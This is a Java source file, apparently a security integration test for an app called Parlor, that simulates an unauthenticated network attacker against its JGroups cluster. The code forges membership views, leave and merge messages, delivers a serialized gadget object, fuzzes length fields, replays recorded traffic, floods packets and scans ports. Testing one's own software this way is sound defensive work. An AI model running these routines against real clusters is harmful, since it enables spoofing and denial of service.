package dev.parlor.it.attack;

import dev.parlor.internal.net.NetworkOptions;
import dev.parlor.internal.net.jgroups.address.RoomAddress;
import dev.parlor.internal.net.jgroups.secure.DatagramCipher;
import dev.parlor.internal.net.jgroups.stack.StackSource;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import org.jgroups.Address;
import org.jgroups.BytesMessage;
import org.jgroups.EmptyMessage;
import org.jgroups.JChannel;
import org.jgroups.Message;
import org.jgroups.ObjectMessage;
import org.jgroups.Version;
import org.jgroups.View;
import org.jgroups.ViewId;
import org.jgroups.conf.ClassConfigurator;
import org.jgroups.protocols.MERGE3;
import org.jgroups.protocols.TCP;
import org.jgroups.protocols.TpHeader;
import org.jgroups.protocols.UDP;
import org.jgroups.protocols.pbcast.GMS;
import org.jgroups.stack.IpAddress;
import org.jgroups.util.ByteArrayDataOutputStream;
import org.jgroups.util.UUID;
import org.jgroups.util.Util;

/**
 * Somebody on the same network who knows the room's name, its addresses, JGroups and Parlor, and not the passphrase. Told by
 * lines what to do; says of each what it did.
 */
public final class Attacker {
    private static final int PACKETS_A_SECOND = 10_000;
    private static final int BURST = 100;
    private static final int RECORDED = 20_000;
    private static final int MAX_DATAGRAM = 65_000;
    private static final int CONNECT_MILLIS = 300;
    private static final int LAST_PORT = 65_535;

    private final NetworkOptions options;
    private final RoomAddress address;
    private final List<InetSocketAddress> targets = new ArrayList<>();
    private final Random random = new Random(1);
    private final List<byte[]> recorded = new ArrayList<>();
    private final DatagramSocket socket;
    private List<Address> members = List.of();

    private Attacker(String[] args) throws IOException {
        boolean lan = args[1].equals("lan");
        options = new NetworkOptions(args[0], "mallory", 666,
                lan ? NetworkOptions.Reach.Networks.NONE.withMulticast()
                        : NetworkOptions.Reach.Networks.NONE.withHosts(List.of(args[1].split(","))), null, NetworkOptions.ANY_PORT, null);
        address = RoomAddress.of(options);
        for (String target : args[2].split(",")) {
            String[] parts = target.split(":");
            targets.add(new InetSocketAddress(parts[0], Integer.parseInt(parts[1])));
        }
        MulticastSocket sending = new MulticastSocket(0);
        sending.setTimeToLive(2);
        sending.setNetworkInterface(outside());
        socket = sending;
    }

    /** Arguments: room, "lan" or the known hosts, host:port of each member (the port of its TCP transport). */
    public static void main(String[] args) throws Exception {
        Attacker attacker = new Attacker(args);
        System.out.println("ready");
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        for (String line; (line = in.readLine()) != null && !line.equals("quit");) {
            String[] words = line.split(" ");
            System.out.println("re:" + words[0] + " " + attacker.attack(words));
        }
        System.exit(0);
    }

    private String attack(String[] words) throws Exception {
        return switch (words[0]) {
            case "gadget" -> deliver(List.of(wire(new ObjectMessage(null, new Gadget()))));
            case "join" -> join();
            case "leave" -> deliver(leaves());
            case "view" -> deliver(List.of(view()));
            case "merge" -> deliver(List.of(merge()));
            case "headerless" -> deliver(headerless());
            case "lengths" -> deliver(lengths());
            case "flood" -> flood(Integer.parseInt(words[1]));
            case "record" -> record(Integer.parseInt(words[1]));
            case "replay" -> deliver(recorded);
            case "scan" -> scan();
            default -> throw new IllegalArgumentException(words[0]);
        };
    }

    private boolean isLan() {
        return options.reach() instanceof NetworkOptions.Reach.Networks networks && networks.multicast();
    }

    private static NetworkInterface outside() throws IOException {
        return NetworkInterface.getByName("eth0");
    }

    /** With JGroups itself, as whoever has Parlor and no passphrase would. */
    private String join() throws Exception {
        byte[] stack = StackSource.open(options, address).readAllBytes();
        try (JChannel channel = new JChannel(new ByteArrayInputStream(stack))) {
            channel.connect(address.clusterName());
            members = channel.getView().getMembers().stream().filter(each -> !each.equals(channel.getAddress())).toList();
            channel.send(new BytesMessage(null, "let me in".getBytes(StandardCharsets.UTF_8)));
            TimeUnit.SECONDS.sleep(2);
            return "saw " + channel.getView().size();
        }
    }

    /** The members, if it could see them; else somebody, in the hope that it is one. */
    private List<Address> known() {
        return members.isEmpty() ? List.of(UUID.randomUUID(), UUID.randomUUID()) : members;
    }

    private List<byte[]> leaves() throws IOException {
        List<byte[]> leaves = new ArrayList<>();
        for (Address each : known()) {
            leaves.add(wire(new EmptyMessage(null).setSrc(each).putHeader(id(GMS.class),
                    new GMS.GmsHeader(GMS.GmsHeader.LEAVE_REQ, each))));
        }
        return leaves;
    }

    /** The coordinator says that there is nobody but the attacker. */
    private byte[] view() throws IOException {
        Address coordinator = known().get(0);
        View forged = new View(new ViewId(coordinator, 1_000), List.of(coordinator, UUID.randomUUID()));
        ByteArrayDataOutputStream out = new ByteArrayDataOutputStream(512);
        out.writeShort(1 << 2);
        forged.writeTo(out);
        return wire(new BytesMessage(null, out.buffer(), 0, out.position()).setSrc(coordinator)
                .putHeader(id(GMS.class), new GMS.GmsHeader(GMS.GmsHeader.VIEW)));
    }

    /** There is another part of the group, with which to merge. */
    private byte[] merge() throws IOException {
        Address other = UUID.randomUUID();
        return wire(new EmptyMessage(null).setSrc(other).putHeader(id(MERGE3.class), MERGE3.MergeHeader.createInfo(
                new ViewId(other, 7), "mallory", new IpAddress(InetAddress.getLoopbackAddress(), 9))));
    }

    /** Past the protocols that keep order and repeat: straight to whoever receives. */
    private List<byte[]> headerless() throws IOException {
        List<byte[]> packets = new ArrayList<>();
        for (Address each : known()) {
            packets.add(wire(new BytesMessage(null, "rubbish".getBytes(StandardCharsets.UTF_8)).setSrc(each)));
            packets.add(wire(new EmptyMessage(null).setSrc(each)));
        }
        return packets;
    }

    /** A good packet in which, in one place after the other, a huge or negative number stands. */
    private List<byte[]> lengths() throws IOException {
        List<byte[]> packets = new ArrayList<>();
        byte[] good = view();
        for (int at = 0; at + Integer.BYTES <= good.length; at++) {
            for (int bad : new int[] {Integer.MAX_VALUE, -1, 1 << 24}) {
                byte[] packet = good.clone();
                for (int i = 0; i < Integer.BYTES; i++) {
                    packet[at + i] = (byte) (bad >> 8 * (Integer.BYTES - 1 - i));
                }
                packets.add(packet);
            }
        }
        return packets;
    }

    private static short id(Class<?> protocol) {
        return ClassConfigurator.getProtocolId(protocol);
    }

    /** A message as JGroups sends it to all. */
    private byte[] wire(Message message) throws IOException {
        if (message.getSrc() == null) {
            message.setSrc(UUID.randomUUID());
        }
        message.putHeader(id(isLan() ? UDP.class : TCP.class), new TpHeader(address.clusterName()));
        ByteArrayDataOutputStream out = new ByteArrayDataOutputStream(1_024);
        Util.writeMessage(message, out, true);
        return Arrays.copyOf(out.buffer(), out.position());
    }

    private String deliver(List<byte[]> packets) throws IOException {
        for (byte[] packet : packets) {
            if (isLan()) {
                send(packet);
            } else {
                for (InetSocketAddress target : targets) {
                    // In the name of each member, and in its own.
                    for (InetSocketAddress named : targets) {
                        connect(target, named, packet);
                    }
                }
            }
        }
        return packets.size() + " packets";
    }

    private void send(byte[] packet) throws IOException {
        socket.send(new DatagramPacket(packet, packet.length, InetAddress.getByName(address.multicastAddress()),
                address.multicastPort()));
    }

    private void connect(InetSocketAddress target, InetSocketAddress named, byte[] packet) throws IOException {
        try (Socket connection = new Socket()) {
            connection.connect(target, CONNECT_MILLIS);
            DataOutputStream out = new DataOutputStream(connection.getOutputStream());
            IpAddress name = new IpAddress(named);
            out.writeBytes("bela");
            out.writeShort(Version.version);
            out.writeShort(name.serializedSize());
            name.writeTo(out);
            out.writeInt(packet.length);
            out.write(packet);
            out.flush();
        } catch (IOException refused) {
            // As it may.
        }
    }

    /** Rubbish, rubbish that says it is of this room, and what was recorded, in turn. */
    private String flood(int seconds) throws IOException {
        long begin = System.nanoTime();
        long sent = 0;
        while (System.nanoTime() - begin < seconds * 1_000_000_000L) {
            for (int i = 0; i < BURST; i++, sent++) {
                byte[] packet = new byte[20 + random.nextInt(1_000)];
                random.nextBytes(packet);
                if (!recorded.isEmpty()) {
                    byte[] known = recorded.get(random.nextInt(recorded.size()));
                    if (sent % 3 == 1) {
                        System.arraycopy(known, 0, packet, 0, DatagramCipher.HEAD_BYTES);
                    } else if (sent % 3 == 2) {
                        packet = known;
                    }
                }
                if (isLan()) {
                    send(packet);
                } else {
                    InetSocketAddress target = targets.get(random.nextInt(targets.size()));
                    socket.send(new DatagramPacket(packet, packet.length, target));
                    if (i == 0) {
                        connect(target, targets.get(0), packet);
                    }
                }
            }
            long due = begin + sent * 1_000_000_000L / PACKETS_A_SECOND;
            while (System.nanoTime() < due) {
                LockSupport.parkNanos(due - System.nanoTime());
            }
        }
        return sent + " packets in " + (System.nanoTime() - begin) / 1_000_000 + " ms";
    }

    /** What the room says to all. */
    private String record(int seconds) throws IOException {
        try (MulticastSocket hearing = new MulticastSocket(address.multicastPort())) {
            hearing.joinGroup(new InetSocketAddress(address.multicastAddress(), 0), outside());
            hearing.setSoTimeout(100);
            byte[] buffer = new byte[MAX_DATAGRAM];
            long end = System.nanoTime() + seconds * 1_000_000_000L;
            while (System.nanoTime() < end && recorded.size() < RECORDED) {
                DatagramPacket packet = new DatagramPacket(buffer, buffer.length);
                try {
                    hearing.receive(packet);
                    recorded.add(Arrays.copyOf(buffer, packet.getLength()));
                } catch (SocketTimeoutException quiet) {
                    // Goes on.
                }
            }
        }
        return recorded.size() + " packets";
    }

    /** Every port of every member: rubbish by UDP, and by TCP where somebody listens. */
    private String scan() throws IOException {
        List<Integer> open = new ArrayList<>();
        for (InetAddress host : targets.stream().map(InetSocketAddress::getAddress).distinct().toList()) {
            for (int port = 1; port <= LAST_PORT; port++) {
                socket.send(new DatagramPacket(new byte[] {1, 2, 3, 4, 5, 6, 7, 8}, 8, host, port));
                try (Socket connection = new Socket()) {
                    connection.connect(new InetSocketAddress(host, port), CONNECT_MILLIS);
                    open.add(port);
                    connection.setSoTimeout(CONNECT_MILLIS);
                    DataOutputStream out = new DataOutputStream(connection.getOutputStream());
                    out.writeInt(Integer.MAX_VALUE);
                    out.writeBytes("GET / HTTP/1.1\r\n\r\n");
                    out.write(new byte[4_096]);
                    out.flush();
                    connection.getInputStream().read();
                } catch (IOException closed) {
                    // Nobody, or somebody who has heard enough.
                }
            }
        }
        return "open: " + open;
    }
}
